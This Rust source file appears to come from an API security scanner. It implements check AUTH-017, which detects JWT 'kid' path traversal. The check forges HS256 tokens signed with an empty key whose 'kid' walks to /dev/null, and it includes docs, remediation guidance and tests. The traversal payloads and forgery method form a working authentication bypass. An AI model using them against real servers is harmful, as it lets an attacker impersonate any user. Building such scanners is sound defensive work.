//! AUTH-017: the JWT `kid` header chooses a key *file*: a path-traversal `kid` naming an
//! empty file (`/dev/null`) lets anyone sign tokens with an empty key.

use crate::check::{Check, CheckCtx, CheckError};
use crate::checks::kit::token_probes::{
    accepted, forged_facts, primary_jwt, probe_endpoint, send_token,
};
use crate::jwt::{HmacAlg, Signer};
use async_trait::async_trait;
use serde_json::Value;
use tollgate_core::{
    Category, CheckDocs, CheckId, CheckMeta, Confidence, Finding, HttpMethod, Owasp, SafetyClass,
    Severity,
};

pub struct JwtKidPath;

pub static META: CheckMeta = CheckMeta {
    id: CheckId::new_static("AUTH-017"),
    name: "JWT `kid` path traversal selects the signing key",
    category: Category::Authentication,
    severity: Severity::Critical,
    cwe: 22,
    owasp: Owasp::Api2,
    safety: SafetyClass::Safe,
    methods: &[HttpMethod::Get],
    budget: 9,
    docs: CheckDocs {
        what: "Re-signs a copy of the identity's own JWT with HS256 and an empty key, with a `kid` header that walks to `/dev/null` (plain and `./`-padded variants), and sends it to a route that refuses invalid tokens (one GET per variant, after an invalid-token control). If the answer matches the identity's own, the server read its verification key from the file the token named.",
        why: "A `kid` used as a file path (or in a SQL query) hands key selection to the caller. `/dev/null` is empty on every Linux host, so an empty-key HMAC verifies: anyone can forge a token for any user or role, no secret needed. The same flaw often reads arbitrary files.",
        evidence: "GET /api/v2/me/ with a token whose header is `{\"alg\":\"HS256\",\"kid\":\"../../../../../../../../dev/null\"}`, signed with an empty key → 200, the same answer as alice's real token.",
        remediation: "Treat `kid` as an opaque identifier looked up in a fixed map of configured keys; never use it as a path, URL or query fragment, and reject tokens whose `kid` is unknown.",
        remediation_django: Some("Map `kid` to keys from settings (e.g. `SIMPLE_JWT[\"SIGNING_KEY\"]` or a dict of rotated keys) and call `jwt.decode(token, keys[kid], algorithms=[\"HS256\"])` only for known ids; never `open(header[\"kid\"])`."),
        references: &[
            "https://owasp.org/API-Security/editions/2023/en/0xa2-broken-authentication/",
            "https://portswigger.net/web-security/jwt#injecting-self-signed-jwts-via-the-kid-parameter",
            "https://www.rfc-editor.org/rfc/rfc7515#section-4.1.4",
            "https://cwe.mitre.org/data/definitions/22.html",
        ],
    },
};

/// The traversal variants tried.
const KIDS: &[&str] = &[
    "../../../../../../../../dev/null",
    "/dev/null",
    "..././..././..././..././dev/null",
];

fn header(kid: &str) -> Value {
    serde_json::json!({ "alg": "HS256", "typ": "JWT", "kid": kid })
}

#[async_trait]
impl Check for JwtKidPath {
    fn meta(&self) -> &'static CheckMeta {
        &META
    }

    async fn run(&self, ctx: &CheckCtx) -> Result<Vec<Finding>, CheckError> {
        let (name, token) = primary_jwt(ctx)?;
        let probe = probe_endpoint(ctx, &name).await?;
        let empty_key = Signer::hmac(HmacAlg::Hs256, Vec::new());
        for kid in KIDS {
            let forged = token
                .forge_header(&header(kid), &empty_key)
                .map_err(|e| CheckError::Skipped(format!("cannot re-sign the token: {e}")))?;
            let ex = send_token(ctx, &probe.url, &forged).await?;
            if accepted(&probe.authed, &ex) {
                let mut f = ctx
                    .finding(&ex, "JWT signed with an empty key accepted via a `kid` pointing at /dev/null", None)
                    .with_key(kid)
                    .with_confidence(Confidence::Confirmed)
                    .with_fact(format!("`kid` = `{kid}`, HMAC key = empty; the answer matched identity `{name}`'s own"));
                for fact in forged_facts(&forged) {
                    f = f.with_fact(fact);
                }
                return Ok(vec![f]);
            }
        }
        Ok(Vec::new())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::checks::auth::test_support::{assert_token_absent, run_with, Flaws};

    #[tokio::test]
    async fn fires_when_kid_selects_an_empty_key_file() {
        let (f, token) = run_with(Flaws::all(), &META, &JwtKidPath).await;
        assert_eq!(f.len(), 1, "{f:#?}");
        assert!(f[0].evidence.facts.join("\n").contains("dev/null"));
        assert_token_absent(&f, &token);
    }

    #[tokio::test]
    async fn silent_when_kid_is_not_a_path() {
        let flaws = Flaws {
            kid_path: false,
            ..Flaws::all()
        };
        assert!(run_with(flaws, &META, &JwtKidPath).await.0.is_empty());
    }
}
